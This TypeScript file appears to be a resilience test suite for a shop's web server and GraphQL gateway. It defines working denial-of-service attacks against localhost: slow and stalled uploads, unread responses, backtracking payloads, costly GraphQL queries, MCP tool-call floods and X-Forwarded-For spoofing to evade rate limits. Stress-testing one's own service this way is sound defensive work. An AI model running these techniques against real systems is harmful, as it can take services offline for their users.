// Attacks that need only a few kilobytes and no account. Each runs until its signal aborts, on this machine only.
import { randomUUID } from "node:crypto";
import { type Socket, connect } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import { bodyOf, urlOf } from "../harness/operations.ts";

interface Target {
  web: number;
  gateway: number;
}

interface Attack {
  name: string;
  run: (target: Target, signal: AbortSignal) => Promise<void>;
}

/** A documentation address (RFC 5737), as the proxy in front of the shop reports it. */
const address = (number: number): string => `203.0.113.${number}`;

const LARGE_PAGE = "/product/collection-tabbed-grid/everything";

/** Texts of 100 KB that make careless patterns backtrack. */
const HOSTILE_TEXTS = ["a", "a.", "a@", "@", "eyJ", "Bearer ", "1", "1234 ", '\\"']
  .map((text) => text.repeat(Math.ceil(100_000 / text.length)))
  .concat(`eyJ${"a.".repeat(50_000)}`);

/** Runs `action` on `width` connections at a time until the signal aborts; a failure is retried after 50 ms. */
async function loop(width: number, signal: AbortSignal, action: (turn: number) => Promise<unknown>): Promise<void> {
  let turn = 0;
  const one = async () => {
    while (!signal.aborted) await action(turn++).catch(() => pause(50));
  };
  await Promise.all(Array.from({ length: width }, one));
}

const wait = (ms: number, signal: AbortSignal) => pause(ms, undefined, { signal }).catch(() => undefined);

function open(port: number): Socket {
  return connect({ port, host: "127.0.0.1" }).on("error", () => undefined);
}

/** Keeps `count` connections open that send the same bytes and then nothing. Reopens closed ones. */
const holdOpen = (count: number, port: number, bytes: (index: number) => string, signal: AbortSignal): Promise<void> =>
  loop(count, signal, async (turn) => {
    await new Promise<void>((resolve) => {
      const socket = open(port)
        .once("close", () => resolve())
        .resume();
      socket.once("connect", () => socket.write(bytes(turn)));
      signal.addEventListener("abort", () => socket.destroy(), { once: true });
    });
    await wait(250, signal);
  });

/** Requests that a server queues per connection, plus one in progress. */
const AHEAD = 17;

/**
 * Keeps `count` connections open that send requests without reading a response. The kernel buffers some megabytes of each
 * before the server has to wait.
 */
const readNothing = (
  count: number,
  port: number,
  request: (index: number) => string,
  signal: AbortSignal,
): Promise<void> =>
  loop(count, signal, async (turn) => {
    const socket = open(port).pause();
    for (let ahead = 0; ahead < AHEAD; ahead += 1) socket.write(request(turn));
    while (!signal.aborted && !socket.destroyed && socket.writable) {
      await wait(100, signal);
      socket.write(request(turn));
    }
    socket.resetAndDestroy();
  });

const head = (path: string, from: string, more = ""): string =>
  `GET ${path} HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: ${from}\r\n${more}\r\n`;

/** The largest response, requested as a guest, so that it is never cached. */
const ownCollection = (from: string): string =>
  head(
    urlOf("Collection", { id: "everything", filterable: false, tabbed: true }),
    from,
    `X-Guest-Id: ${randomUUID()}\r\n`,
  );

/** A request that announces a large upload and sends none of it. */
const silentUpload = (number: number): string =>
  [
    "POST /graphql HTTP/1.1",
    "Host: localhost",
    `X-Forwarded-For: ${address(number)}`,
    "Accept: application/json",
    "Apollo-Require-Preflight: true",
    "Content-Type: multipart/form-data; boundary=part",
    "Content-Length: 10000000",
    "\r\n",
  ].join("\r\n");

const dealer = {
  company: "Silent Arms",
  website: "https://silent.example",
  phone: "503-555-0100",
  email: "silent@example.com",
  password: "slow and steady wins",
  firstName: "Sy",
  lastName: "Lent",
  address: { addressLine1: "1 Main St", city: "Salem", state: "OR", postalCode: "97301", country: "United States" },
  appearInDealerLocator: true,
  hasFflSot: true,
  fflNumber: "1-23-456-78-9A-12345",
  fflDocument: null,
};

/** The same, with the operation and the first bytes of its file. */
function stalledUpload(number: number): string {
  const part = (name: string, rest: string) => `--part\r\nContent-Disposition: form-data; name="${name}"${rest}`;
  return [
    silentUpload(number),
    part("operations", `\r\n\r\n${JSON.stringify(bodyOf("DealerRegister", { input: dealer }))}\r\n`),
    part("map", `\r\n\r\n{"0":["variables.input.fflDocument"]}\r\n`),
    part("0", '; filename="license.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n'),
  ].join("");
}

async function send(
  url: string,
  from: string,
  signal: AbortSignal,
  body?: object,
  headers: Record<string, string> = {},
) {
  const json = { "content-type": "application/json", accept: "application/json" };
  const all = { "x-forwarded-for": from, ...(body ? json : { accept: "text/html" }), ...headers };
  const response = await fetch(
    url,
    body ? { method: "POST", headers: all, body: JSON.stringify(body), signal } : { headers: all, signal },
  );
  await response.arrayBuffer();
}

const local = (port: number, path: string): string => `http://127.0.0.1:${port}${path}`;

/** The text in every place that a server echoes, logs or redacts. */
function requestsWith(text: string, { web, gateway }: Target, signal: AbortSignal) {
  const graphql = local(gateway, "/graphql");
  const post = (body: object, headers?: Record<string, string>) => send(graphql, address(31), signal, body, headers);
  const get = (path: string) => send(local(gateway, path), address(32), signal);
  const short = text.slice(0, 5_000);
  const dealers = bodyOf("Dealers", { radius: text });
  const { operationName: _name, ...unnamed } = dealers as { operationName: string };
  return [
    () => post(dealers),
    () => post({ ...unnamed, variables: { [text]: 1, radius: { [text]: text } } }),
    () => post({ ...dealers, operationName: text }),
    () => post({ query: text }),
    () => post({ query: `{ ${JSON.stringify(text)} }` }),
    () => post({ query: "query ($a: Int) { dealers(radius: $a) { totalCount } }", variables: { a: text } }),
    () => post({ query: "{ __typename }", extensions: { persistedQuery: { version: 1, sha256Hash: text } } }),
    () => post({ query: "{ __typename }" }, { "x-request-id": encodeURIComponent(short).slice(0, 5_000) }),
    () => send(local(gateway, "/webhooks/content"), address(31), signal, { [text]: text }),
    () => send(local(web, "/graphql"), address(31), signal, dealers),
    () => get(urlOf("Dealers", { radius: short })),
    () => get(`/graphql?${new URLSearchParams({ query: short })}`),
    () => send(local(web, `/search/${encodeURIComponent(short).slice(0, 9_000)}`), address(33), signal),
  ];
}

const dealerFields = "id name phone address { addressLine1 addressLine2 city state postalCode }";
/** All fields of dealers, as often as the document limits allow. */
const allDealers = (first: string): string =>
  `query {${[0, 1, 2, 3]
    .map(
      (index) => ` d${index}: dealers(postalCode: "6720${index}", radius: 500${first}) { totalCount edges {
        distance node { ${dealerFields} coordinates { latitude longitude } }
      } }`,
    )
    .join("")} }`;

export const attacks: Attack[] = [
  {
    name: "uncached pages, 64 at a time from four addresses",
    run: ({ web }, signal) =>
      loop(64, signal, (turn) => {
        const paths = [`/copy/${randomUUID()}`, `/search/${randomUUID()}`, `${LARGE_PAGE}?x=${randomUUID()}`];
        return send(local(web, paths[turn % 3] ?? "/"), address(61 + (turn % 4)), signal);
      }),
  },
  {
    name: "pages by IPv6, 24 at a time from three networks beside the shopper's",
    run: ({ web }, signal) =>
      loop(24, signal, (turn) => send(local(web, `/search/${randomUUID()}`), `2001:db8:aaaa:${turn % 3}::5`, signal)),
  },
  {
    name: "pages, 32 at a time, each from another of the 65,536 networks of one customer",
    run: ({ web }, signal) =>
      loop(32, signal, (turn) => {
        const from = `2001:db8:bad:${(turn % 65_536).toString(16)}::1`;
        return send(local(web, `${LARGE_PAGE}?x=${randomUUID()}`), from, signal);
      }),
  },
  {
    name: "unread large pages, 64 connections from four addresses",
    run: ({ web }, signal) =>
      readNothing(64, web, (index) => head(`${LARGE_PAGE}?x=${randomUUID()}`, address(65 + (index % 4))), signal),
  },
  {
    name: "unread large responses, 256 connections through the shop",
    run: ({ web }, signal) => readNothing(256, web, (index) => ownCollection(address(71 + (index % 8))), signal),
  },
  {
    name: "unread large responses, 64 connections at the gateway",
    run: ({ gateway }, signal) => readNothing(64, gateway, (index) => ownCollection(address(91 + (index % 8))), signal),
  },
  {
    name: "assistant calls, 40 at a time",
    run: ({ gateway }, signal) =>
      loop(40, signal, (turn) => {
        const calls = [
          { name: "search_products", arguments: { query: randomUUID() } },
          { name: "find_dealers", arguments: { postalCode: `672${10 + (turn % 90)}` } },
          { name: "start_cart", arguments: {} },
          { name: "read_cart", arguments: { cart: "x".repeat(5_000) } },
        ];
        const message = { jsonrpc: "2.0", id: turn, method: "tools/call", params: calls[turn % calls.length] };
        const headers = { accept: "application/json, text/event-stream" };
        return send(local(gateway, "/mcp"), address(81 + (turn % 20)), signal, message, headers);
      }),
  },
  {
    name: "258 silent uploads from one address",
    run: ({ web }, signal) => holdOpen(258, web, () => silentUpload(11), signal),
  },
  {
    name: "140 stalled uploads from seven addresses, through the shop",
    run: ({ web }, signal) => holdOpen(140, web, (index) => stalledUpload(12 + (index % 7)), signal),
  },
  {
    name: "140 stalled uploads from seven addresses, at the gateway",
    run: ({ gateway }, signal) => holdOpen(140, gateway, (index) => stalledUpload(12 + (index % 7)), signal),
  },
  {
    name: "100 KB in every input that is echoed",
    run(target, signal) {
      const requests = HOSTILE_TEXTS.flatMap((text) => requestsWith(text, target, signal));
      return loop(4, signal, async (turn) => requests[turn % requests.length]?.());
    },
  },
  {
    name: "200 pipelined pages and a reset, twice a second",
    run({ web }, signal) {
      const pages = Array.from({ length: 200 }, (_, index) => head(`/no-such-page-${index}`, address(41))).join("");
      return loop(1, signal, async () => {
        const socket = open(web).resume();
        socket.once("connect", () => socket.write(pages));
        await wait(500, signal);
        socket.resetAndDestroy();
      });
    },
  },
  {
    name: "the most expensive dealer searches",
    run: ({ gateway }, signal) =>
      loop(8, signal, (turn) => {
        const variables = { postalCode: "67202", radius: 500 - (turn % 300), first: turn % 2 === 0 ? 50 : 500 };
        const bodies = [
          { query: allDealers("") },
          { query: allDealers(", first: 500") },
          { query: `{ dealers(first: 500) { totalCount nodes { ${dealerFields} } } }` },
          bodyOf("Dealers", variables),
        ];
        return send(local(gateway, "/graphql"), address(51 + (turn % 4)), signal, bodies[turn % bodies.length]);
      }),
  },
];
